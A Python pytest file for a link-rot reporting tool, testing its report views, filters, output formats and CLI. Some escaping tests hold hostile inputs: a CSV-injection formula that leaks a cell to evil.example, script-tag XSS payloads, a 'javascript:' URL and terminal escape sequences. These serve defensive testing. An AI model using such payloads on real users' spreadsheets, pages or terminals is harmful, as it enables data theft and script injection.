"""Reports: views, filters, every format's contract, empty states and the CLI."""

from __future__ import annotations

import csv
import datetime as dt
import gc
import io
import json
import tomllib
from collections.abc import Iterator
from html.parser import HTMLParser
from pathlib import Path

import jsonschema  # type: ignore[import-untyped]
import pytest
from click.testing import CliRunner, Result
from markdown_it import MarkdownIt
from markdown_it.token import Token
from rich.console import Console

from linkwatch.cli import main
from linkwatch.model import DateSource, Format, State
from linkwatch.report.charts import load_html_extras
from linkwatch.report.render import render
from linkwatch.report.rows import CitationLine, Filters, OutputFormat, Report, View, host_of
from linkwatch.report.to_csv import render_csv
from linkwatch.report.to_html import render_html
from linkwatch.report.to_json import citation_dict, render_json, report_dict
from linkwatch.report.to_markdown import render_markdown
from linkwatch.report.to_table import render_table
from linkwatch.store import Store
from linkwatch.store.reports import ReportUrl
from support.report_example import (
    AMNESTY,
    ANNIVERSARY,
    BAD,
    BAIDALINOVA,
    EC,
    EUOBSERVER,
    HRW,
    JUNCKER,
    KOZLOV,
    NOW,
    ODF_7228,
    ODF_7410,
    RFERL,
    WEEK_AGO,
    at,
    build_example_store,
    check,
    release,
    report_of,
    seed,
)

SCHEMA = Path(__file__).parents[1] / "src" / "linkwatch" / "schema" / "report.schema.json"
CONTRACT_KEYS = {
    "label",
    "url",
    "state",
    "http_status",
    "final_url",
    "last_checked",
    "archive_url",
    "archive_timestamp",
    "pinned",
    "invalid",
}


@pytest.fixture
def example(tmp_path: Path) -> Iterator[Store]:
    store = Store.open(tmp_path / "state")
    build_example_store(store)
    yield store
    store.close()


@pytest.fixture
def example_project(tmp_path: Path, example: Store) -> Path:
    """A config whose state directory holds the example store."""
    (tmp_path / "config.toml").write_text('[state]\ndir = "state"\n', encoding="utf-8")
    return tmp_path


def run(project: Path, *args: str) -> Result:
    return CliRunner().invoke(main, ["--config", str(project / "config.toml"), *args], obj=at(NOW))


def validate(data: dict[str, object]) -> None:
    schema = json.loads(SCHEMA.read_text(encoding="utf-8"))
    jsonschema.Draft202012Validator(schema, format_checker=jsonschema.FormatChecker()).validate(
        data
    )


def table_text(report: Report, width: int = 80) -> str:
    buffer = io.StringIO()
    Console(file=buffer, width=width, color_system=None).print(render_table(report))
    return buffer.getvalue()


def html_of(store: Store, report: Report) -> str:
    return render_html(report, load_html_extras(store, report))


def citations_of(data: dict[str, object]) -> list[dict[str, object]]:
    return [c for r in data["releases"] for c in r["citations"]]  # type: ignore[attr-defined]


# --------------------------------------------------------------------------- views


def test_release_view_lists_every_release_with_citations_in_document_order(
    example: Store,
) -> None:
    report = report_of(example)
    assert [r.path for r in report.releases] == [JUNCKER, KOZLOV, BAIDALINOVA, ANNIVERSARY]
    juncker = report.releases[0]
    assert [c.label for c in juncker.citations] == [
        "1", "2", "3", "4", "5", "6", "7", "9", "10", "11", "12",
    ]  # fmt: skip


def test_state_is_the_pin_and_evidence_is_kept_beside_it(example: Store) -> None:
    line = next(c for c in report_of(example).citations() if c.url == AMNESTY)
    assert (line.state, line.evidence, line.pinned) == ("alive", "blocked", "alive")


def test_state_since_is_when_the_current_state_began(example: Store) -> None:
    lines = {c.url: c for c in report_of(example).citations()}
    assert (lines[EC].state_since or "").startswith("2018-03-04")
    assert (lines[EUOBSERVER].state_since or "").startswith("2026-11-21")


def test_footnote_already_linking_its_copy_is_reported(example: Store) -> None:
    lines = {c.url: c for c in report_of(example).releases[0].citations}
    assert lines[ODF_7410].points_at_archive is True
    assert lines[EC].points_at_archive is False


def test_url_view_lists_a_url_cited_by_two_releases_once(example: Store) -> None:
    report = report_of(example, view=View.URL)
    [line] = [u for u in report.urls if u.url == ODF_7228]
    assert line.releases == (JUNCKER, KOZLOV)
    assert line.citations == 2
    assert len({u.url for u in report.urls}) == len(report.urls)


def test_url_view_puts_the_worst_states_first(example: Store) -> None:
    states = [u.state for u in report_of(example, view=View.URL).urls]
    assert states[0] == "dead"
    assert states.index("soft404") > states.index("dead")
    assert states.index("alive") > states.index("moved")


def test_host_view_ranks_the_sites_that_rot_most_first(example: Store) -> None:
    hosts = report_of(example, view=View.HOST).hosts
    assert hosts[0].host == "en.odfoundation.eu"
    assert (hosts[0].urls, hosts[0].rotten, hosts[0].rot_rate) == (5, 5, 1.0)


def test_host_view_groups_www_with_the_bare_domain(example: Store) -> None:
    osce = next(h for h in report_of(example, view=View.HOST).hosts if h.host == "osce.org")
    assert osce.urls == 2  # www.osce.org and osce.org


def test_host_views_count_usurped_sites_and_csv_adds_the_column_at_the_end(
    fresh_store: Store,
) -> None:
    ids = seed(
        fresh_store, ["http://lapsed.example/a", "http://lapsed.example/b", "http://ok.example/"]
    )
    when = NOW - dt.timedelta(days=1)
    check(fresh_store, ids[0], when, State.USURPED, 200)
    check(fresh_store, ids[1], when, State.DEAD, 404)
    check(fresh_store, ids[2], when, State.ALIVE, 200)
    report = report_of(fresh_store, view=View.HOST)
    markdown = render_markdown(report)
    assert "| host | URLs | citations | dead | usurped | soft404 | rotten share |" in markdown
    assert "| lapsed.example | 2 | 2 | 1 | 1 | 0 | 100% |" in markdown
    lines = table_text(report).splitlines()
    header = [cell.strip() for cell in lines[0].split("┃")]
    assert header == ["host", "urls", "dead", "usurped", "soft404", "ok", "rotten"]
    lapsed_row = [cell.strip() for cell in lines[2].split("│")]
    assert lapsed_row[:6] == ["lapsed.example", "2", "1", "1", "0", "0"]
    rows = list(csv.reader(io.StringIO(render_csv(report))))
    # the columns written before usurped existed keep their places; it comes last
    assert rows[0][5:] == [
        "dead",
        "soft404",
        "transient",
        "blocked",
        "moved",
        "alive",
        "unchecked",
        "usurped",
    ]
    lapsed = dict(zip(rows[0], rows[1], strict=True))
    assert (lapsed["host"], lapsed["dead"], lapsed["usurped"], lapsed["soft404"]) == (
        "lapsed.example",
        "1",
        "1",
        "0",
    )


# --------------------------------------------------------------------------- filters


def test_state_filter_keeps_only_those_states(example: Store) -> None:
    report = report_of(example, filters=Filters(states=frozenset({"soft404"})))
    assert {c.state for c in report.citations()} == {"soft404"}
    assert report.summary.citations == 3


def test_release_glob_keeps_matching_releases(example: Store) -> None:
    report = report_of(example, filters=Filters(release_glob="releases/2019-*"))
    assert [r.path for r in report.releases] == [KOZLOV]


def test_host_filter_includes_subdomains(example: Store) -> None:
    report = report_of(example, filters=Filters(host="europa.eu"))
    hosts = {c.host for c in report.citations()}
    assert hosts == {"ec.europa.eu", "europarl.europa.eu"}


def test_since_keeps_urls_that_changed_and_says_from_what(example: Store) -> None:
    report = report_of(example, filters=Filters(since=WEEK_AGO))
    changed = {c.url: (c.previous_state, c.state) for c in report.citations()}
    assert changed[EUOBSERVER] == ("dead", "alive")
    assert changed[HRW] == ("alive", "moved")
    assert changed[RFERL] == ("transient", "soft404")
    assert EC not in changed  # dead for years: no news


def test_since_leaves_out_releases_without_changes(example: Store) -> None:
    report = report_of(example, filters=Filters(since=WEEK_AGO))
    assert [r.path for r in report.releases] == [JUNCKER, KOZLOV]


def test_state_change_ignores_a_flap_and_a_status_only_change(fresh_store: Store) -> None:
    ids = seed(fresh_store, ["http://a.example/1", "http://a.example/2"])
    base = NOW - dt.timedelta(days=30)
    check(fresh_store, ids[0], base, State.ALIVE, 200)
    check(fresh_store, ids[0], NOW - dt.timedelta(days=3), State.TRANSIENT, 503)
    check(fresh_store, ids[0], NOW - dt.timedelta(days=2), State.ALIVE, 200)
    check(fresh_store, ids[1], base, State.DEAD, 404)
    check(fresh_store, ids[1], NOW - dt.timedelta(days=1), State.DEAD, 410)
    assert fresh_store.state_changes(WEEK_AGO) == []


# --------------------------------------------------------------------------- json


def test_json_keeps_every_key_of_the_contract(example: Store) -> None:
    data = json.loads(render_json(report_of(example)))
    assert {"generated_at", "releases"} <= set(data)
    assert {"path", "title", "published", "date_source", "citations"} <= set(data["releases"][0])
    assert all(set(c) >= CONTRACT_KEYS for c in citations_of(data))


@pytest.mark.parametrize("since", [None, WEEK_AGO])
@pytest.mark.parametrize("view", list(View))
def test_json_is_one_line_of_utf8_holding_exactly_the_report_dict(
    example: Store, view: View, since: dt.datetime | None
) -> None:
    example.save_releases(
        [
            release(
                "x.md",
                'Zażółć „gęślą” \u2028 \x00 "q"',
                "2020-01-01",
                DateSource.DATELINE,
                Format.MARKDOWN,
                [("¹", EC), (None, "http://example.org/ü?a=1&b=<2>")],
            )
        ],
        NOW,
    )
    report = report_of(example, view=view, filters=Filters(since=since))
    data = render_json(report)
    assert data.endswith(b"}\n") and data.count(b"\n") == 1
    assert json.loads(data) == report_dict(report)
    if since is None and view is View.RELEASE:
        assert 'Zażółć „gęślą” \u2028 \\u0000 \\"q\\"'.encode() in data


@pytest.mark.parametrize("view", list(View))
def test_json_matches_the_schema_in_every_view(example: Store, view: View) -> None:
    validate(report_dict(report_of(example, view=view)))


def test_json_with_since_matches_the_schema(example: Store) -> None:
    validate(report_dict(report_of(example, filters=Filters(since=WEEK_AGO))))


def test_schema_rejects_an_unknown_state(example: Store) -> None:
    data = report_dict(report_of(example))
    data["releases"][0]["citations"][0]["state"] = "gone"
    with pytest.raises(jsonschema.ValidationError):
        validate(data)


# --------------------------------------------------------------------------- csv


@pytest.mark.parametrize("view", list(View))
def test_csv_round_trips_through_the_csv_module(example: Store, view: View) -> None:
    report = report_of(example, view=view)
    rows = list(csv.DictReader(io.StringIO(render_csv(report), newline="")))
    expected = {View.RELEASE: 21, View.URL: len(report.urls), View.HOST: len(report.hosts)}
    assert len(rows) == expected[view]
    if view is View.RELEASE:
        assert [r["url"] for r in rows] == [c.url for c in report.citations()]
        assert [r["label"] for r in rows] == [c.label or "" for c in report.citations()]


def test_csv_keeps_commas_quotes_and_line_breaks_in_titles(tmp_path: Path) -> None:
    store = Store.open(tmp_path / "state")
    title = 'Statement, "quoted"\nsecond line'
    store.save_releases(
        [release("a.md", title, "2020-01-01", DateSource.DATELINE, Format.MARKDOWN, [("1", EC)])],
        NOW,
    )
    [row] = csv.DictReader(io.StringIO(render_csv(report_of(store)), newline=""))
    assert row["title"] == title


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_csv_cells_a_spreadsheet_would_run_start_with_an_apostrophe(
    tmp_path: Path, start: str
) -> None:
    """OWASP's CSV-injection rule, for titles, paths and labels alike."""
    store = Store.open(tmp_path / "state")
    formula = f'{start}HYPERLINK("http://evil.example/?"&A1,"x")'
    store.save_releases(
        [
            release(
                f"{start}a.md",
                formula,
                "2020-01-01",
                DateSource.DATELINE,
                Format.MARKDOWN,
                [(f"{start}1", EC)],
            )
        ],
        NOW,
    )
    [row] = csv.DictReader(io.StringIO(render_csv(report_of(store)), newline=""))
    assert (row["title"], row["release"], row["label"]) == (
        "'" + formula,
        f"'{start}a.md",
        f"'{start}1",
    )
    assert row["http_status"] == ""  # numbers and empty cells are left alone


def test_the_table_prints_no_escape_sequence_from_a_title_or_url(tmp_path: Path) -> None:
    store = Store.open(tmp_path / "state")
    hostile = "\x1b]0;PWNED\x07\x1b[2JStatement [bold]x[/bold]"
    store.save_releases(
        [
            release(
                "a.md",
                hostile,
                "2020-01-01",
                DateSource.DATELINE,
                Format.MARKDOWN,
                [("1", "http://example.org/\x1b[2J")],
            )
        ],
        NOW,
    )
    console = Console(file=io.StringIO(), width=200, color_system=None)
    console.print(render_table(report_of(store)))
    shown = console.file.getvalue()  # type: ignore[attr-defined]
    assert "\x1b" not in shown and "\x07" not in shown
    assert "Statement [bold]x[/bold]" in shown  # text, not markup


# --------------------------------------------------------------------------- markdown


def parse_markdown(text: str) -> list[Token]:
    return MarkdownIt("commonmark").enable("table").parse(text)


@pytest.mark.parametrize("view", list(View))
def test_markdown_parses_into_tables(example: Store, view: View) -> None:
    tokens = parse_markdown(render_markdown(report_of(example, view=view)))
    assert any(t.type == "table_open" for t in tokens)


def test_markdown_links_point_at_the_exact_urls(example: Store) -> None:
    tokens = parse_markdown(render_markdown(report_of(example)))
    hrefs = [
        child.attrs["href"]
        for token in tokens
        for child in (token.children or [])
        if child.type == "link_open"
    ]
    assert EC in hrefs and ODF_7410 in hrefs
    assert BAD.replace(" ", "%20") in hrefs


def test_markdown_cell_with_a_pipe_stays_in_its_cell(tmp_path: Path) -> None:
    store = Store.open(tmp_path / "state")
    url = "http://example.org/a|b"
    store.save_releases(
        [
            release(
                "a.md", "T | x", "2020-01-01", DateSource.DATELINE, Format.MARKDOWN, [("1", url)]
            )
        ],
        NOW,
    )
    tokens = parse_markdown(render_markdown(report_of(store)))
    cells = sum(1 for t in tokens if t.type == "td_open")
    assert cells == 5


# --------------------------------------------------------------------------- html


class AssetCollector(HTMLParser):
    """Every URL the page would fetch by itself, and every element seen."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.fetched: list[str] = []
        self.tags: set[str] = set()
        self.links: list[str] = []
        self.text: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.add(tag)
        values = dict(attrs)
        if tag == "a" and values.get("href"):
            self.links.append(values["href"] or "")
        for name in ("src", "srcset", "poster", "data", "background"):
            if values.get(name):
                self.fetched.append(values[name] or "")
        if tag == "link" and values.get("href"):
            self.fetched.append(values["href"] or "")
        if "url(" in (values.get("style") or ""):
            self.fetched.append(values["style"] or "")

    def handle_data(self, data: str) -> None:
        self.text.append(data)


def collect(html: str) -> AssetCollector:
    parser = AssetCollector()
    parser.feed(html)
    parser.close()
    return parser


@pytest.mark.parametrize("view", list(View))
def test_html_is_self_contained(example: Store, view: View) -> None:
    report = report_of(example, view=view)
    page = collect(html_of(example, report))
    assert page.fetched == []
    assert not page.tags & {"script", "img", "link", "iframe", "object", "embed"}
    assert "svg" in page.tags and "style" in page.tags
    assert "@import" not in html_of(example, report)


def test_html_links_the_original_and_the_archived_copy(example: Store) -> None:
    page = collect(html_of(example, report_of(example)))
    assert EC in page.links
    assert any(link.startswith("https://web.archive.org/web/2016") for link in page.links)


def test_html_escapes_a_script_in_a_title_and_a_url(tmp_path: Path) -> None:
    store = Store.open(tmp_path / "state")
    title = "<script>alert('x')</script> & co"
    url = 'http://example.org/"><script>alert(1)</script>'
    store.save_releases(
        [release("a.md", title, "2020-01-01", DateSource.DATELINE, Format.MARKDOWN, [("1", url)])],
        NOW,
    )
    html = html_of(store, report_of(store))
    page = collect(html)
    assert "script" not in page.tags
    assert "<script>" not in html
    assert "&lt;script&gt;alert(&#39;x&#39;)&lt;/script&gt; &amp; co" in html
    assert title in "".join(page.text)


def test_html_shows_a_timeline_strip_per_checked_url(example: Store) -> None:
    report = report_of(example)
    extras = load_html_extras(example, report)
    ec = next(c for c in report.citations() if c.url == EC)
    colours = [segment.colour for segment in extras.timelines[ec.url_id]]
    assert colours[0] != colours[-1]  # alive, then dead
    assert extras.rot is not None and extras.rot.bars


def test_html_timeline_segments_stay_inside_the_strip(example: Store) -> None:
    extras = load_html_extras(example, report_of(example))
    for segments in extras.timelines.values():
        assert all(s.x >= 0 and s.x + s.width <= 100.01 for s in segments)


# --------------------------------------------------------------------------- table


@pytest.mark.parametrize("view", list(View))
def test_table_fits_an_80_column_terminal(example: Store, view: View) -> None:
    text = table_text(report_of(example, view=view))
    assert max(len(line) for line in text.splitlines()) <= 80
    assert "en.odfoundation.eu" in text


def test_table_marks_pinned_states(example: Store) -> None:
    text = table_text(report_of(example))
    assert "alive*" in text and "pinned by a person" in text


# --------------------------------------------------------------------------- empty states


def empty_store(tmp_path: Path) -> Store:
    return Store.open(tmp_path / "empty")


def unchecked_store(tmp_path: Path) -> Store:
    store = Store.open(tmp_path / "unchecked")
    store.save_releases(
        [release("a.md", "A", "2020-01-01", DateSource.DATELINE, Format.MARKDOWN, [("1", EC)])],
        NOW,
    )
    return store


@pytest.mark.parametrize("make", [empty_store, unchecked_store])
@pytest.mark.parametrize("fmt", list(OutputFormat))
@pytest.mark.parametrize("view", list(View))
def test_empty_states_render_in_every_format(
    tmp_path: Path, make: object, fmt: OutputFormat, view: View
) -> None:
    store = make(tmp_path)  # type: ignore[operator]
    report = report_of(store, view=view)
    rendered = render(report, fmt, store)
    if fmt is OutputFormat.TABLE:
        text = table_text(report)
        assert text.strip()
        return
    assert rendered.data
    text = rendered.data.decode()
    if fmt is OutputFormat.JSON:
        validate(json.loads(text))
    elif fmt is OutputFormat.CSV:
        assert next(csv.reader(io.StringIO(text)))  # a header row at least
    elif fmt is OutputFormat.MARKDOWN:
        assert parse_markdown(text)
    else:
        assert collect(text).fetched == []


def test_empty_store_says_to_scan_in_every_human_format(tmp_path: Path) -> None:
    store = empty_store(tmp_path)
    report = report_of(store)
    assert "linkwatch scan" in table_text(report)
    assert "linkwatch scan" in render_markdown(report)
    assert "linkwatch scan" in html_of(store, report)


def test_never_checked_store_says_there_is_no_history_yet(tmp_path: Path) -> None:
    store = unchecked_store(tmp_path)
    html = html_of(store, report_of(store))
    assert "No check history yet" in html
    assert "never checked" in html


# --------------------------------------------------------------------------- CLI


def test_cli_report_in_every_format_exits_zero(example_project: Path) -> None:
    for fmt in OutputFormat:
        result = run(example_project, "report", "--format", fmt.value)
        assert result.exit_code == 0, (fmt, result.output)
        assert "odfoundation" in result.output


def test_cli_fail_on_exits_1_when_a_citation_is_in_those_states(example_project: Path) -> None:
    result = run(example_project, "report", "--format", "json", "--fail-on", "dead,soft404")
    assert result.exit_code == 1
    assert "11 citations are dead or soft404" in result.stderr


def test_cli_fail_on_exits_0_when_none_is(example_project: Path) -> None:
    result = run(example_project, "report", "--release", "*baidalinova*", "--fail-on", "dead")
    assert result.exit_code == 0, result.output


def test_cli_fail_on_counts_only_the_filtered_citations(example_project: Path) -> None:
    args = ("report", "--host", "osce.org", "--fail-on", "dead")
    assert run(example_project, *args).exit_code == 0
    assert run(example_project, "report", "--host", "bit.ly", "--fail-on", "dead").exit_code == 1


def test_cli_unknown_state_is_a_usage_error(example_project: Path) -> None:
    result = run(example_project, "report", "--state", "dead,gone")
    assert result.exit_code == 2
    assert "unknown state gone" in result.output


def test_cli_since_accepts_a_date_and_refuses_nonsense(example_project: Path) -> None:
    assert run(example_project, "report", "--since", "2026-11-01").exit_code == 0
    result = run(example_project, "report", "--since", "last tuesday")
    assert result.exit_code == 2


def test_cli_output_writes_the_file(example_project: Path, tmp_path: Path) -> None:
    target = tmp_path / "out" / "report.html"
    target.parent.mkdir()
    result = run(example_project, "report", "--format", "html", "--output", str(target))
    assert result.exit_code == 0, result.output
    assert result.output == ""
    assert "<svg" in target.read_text(encoding="utf-8")


def test_cli_table_to_a_file_has_no_colour_codes(example_project: Path, tmp_path: Path) -> None:
    target = tmp_path / "report.txt"
    assert run(example_project, "report", "--output", str(target)).exit_code == 0
    text = target.read_text(encoding="utf-8")
    assert "\x1b[" not in text and "odfoundation" in text


def test_cli_by_url_json_lists_urls(example_project: Path) -> None:
    result = run(example_project, "report", "--by", "url", "--format", "json")
    data = json.loads(result.output)
    assert data["view"] == "url"
    assert len(data["urls"]) == data["summary"]["urls"] == 18


def test_report_leaves_the_garbage_collector_as_it_found_it(example_project: Path) -> None:
    """A daemon builds reports too: nothing may stay frozen or switched off after one."""
    frozen = gc.get_freeze_count()
    assert run(example_project, "report", "--format", "json").exit_code == 0
    assert run(example_project, "report", "--fail-on", "alive").exit_code in (0, 1)
    assert gc.isenabled() and gc.get_freeze_count() == frozen


def test_templates_and_schema_ship_with_the_package() -> None:
    root = Path(__file__).parents[1]
    pyproject = tomllib.loads((root / "pyproject.toml").read_text(encoding="utf-8"))
    patterns = pyproject["tool"]["setuptools"]["package-data"]["linkwatch"]
    package = root / "src" / "linkwatch"
    shipped = {path for pattern in patterns for path in package.glob(pattern) if path.is_file()}
    needed = {
        path
        for folder in ("templates/report", "templates/digest", "schema")
        for path in (package / folder).iterdir()
    }
    assert needed <= shipped, sorted(str(p) for p in needed - shipped)


@pytest.mark.parametrize(
    ("key", "host"),
    [
        ("https://www.osce.org/odihr/1", "osce.org"),
        ("http://www.example/", "www.example"),
        ("http://user:pw@Docs.Example.org:8080/a?b#c", "docs.example.org"),
        ("http://[::1]:8080/x", "[::1]"),
        ("http://host.example?q=1", "host.example"),
        ("http://www.kazpravda.kz/news/sud 2021", "kazpravda.kz"),
        ("not a url", ""),
    ],
)
def test_host_of_names_the_site(key: str, host: str) -> None:
    assert host_of(key) == host


def test_html_never_links_a_non_web_url(tmp_path: Path) -> None:
    store = Store.open(tmp_path / "state")
    url = "javascript:alert(1)//http://example.org"
    store.save_releases(
        [release("a.md", "T", "2020-01-01", DateSource.DATELINE, Format.MARKDOWN, [("1", url)])],
        NOW,
    )
    page = collect(html_of(store, report_of(store)))
    assert not any(link.lower().startswith("javascript") for link in page.links)


def test_every_citation_row_carries_every_field(example: Store) -> None:
    """The report's hot loop builds rows without NamedTuple's checks (for speed): a field
    added to CitationLine but not to the loop would make short rows, and this fails."""
    report = report_of(example)
    lines = list(report.citations())
    assert lines and all(len(line) == len(CitationLine._fields) for line in lines)
    for line in lines:
        assert isinstance(line.target, ReportUrl) and line.host == host_of(line.target.key)


def test_every_url_field_is_shown_on_its_citations(example: Store) -> None:
    """What belongs to a URL is read through its citations: a field added to ReportUrl
    needs its CitationLine property too, returning the URL's own value."""
    line = next(report_of(example).citations())
    for name in set(ReportUrl._fields) - {"id", "key", "url"}:
        assert getattr(line, name) == getattr(line.target, name), name


def test_json_citation_keys_are_the_schema_and_follow_the_rows(example: Store) -> None:
    """A key added to the JSON citation without the schema (or the other way) fails, and
    each key reads the row's own value, whatever the order of the row's fields."""
    schema = json.loads(SCHEMA.read_text(encoding="utf-8"))
    citation = schema["$defs"]["citation"]
    expected = set(citation["properties"]) | set(schema["$defs"]["checked"]["properties"])
    for line in report_of(example).citations():
        data = citation_dict(line)
        assert set(data) == expected
        assert (data["label"], data["url"], data["host"]) == (line.label, line.url, line.host)
        assert (data["archive_url"], data["points_at_archive"]) == (
            line.archive_url,
            line.points_at_archive,
        )
        assert (data["state"], data["evidence_state"]) == (line.state, line.evidence)
